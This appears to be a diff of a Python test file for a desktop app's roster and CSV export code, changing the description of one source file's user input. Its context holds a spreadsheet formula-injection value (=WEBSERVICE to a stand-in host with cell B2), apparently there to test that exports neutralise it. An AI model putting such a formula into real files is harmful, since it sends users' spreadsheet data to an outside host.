@@ -17,7 +17,7 @@ from relay.protocol.rosters import harmless_lines, table_csv, table_text
 TREE = Path(__file__).parents[2]
 FORMULA = '=WEBSERVICE("http://x/"&B2)&'
 EXACTLY = {
-    "desktop/features/chat/view.py": "one's own message that was refused",
+    "desktop/features/chat/view.py": "one message or one web address that was asked for",
     "desktop/pages/details/unsent.py": "one's own message that was not sent",
     "desktop/pages/joining/card.py": "the lesson's link, made by the program",
     "desktop/pages/settings.py": "a folder of this computer",
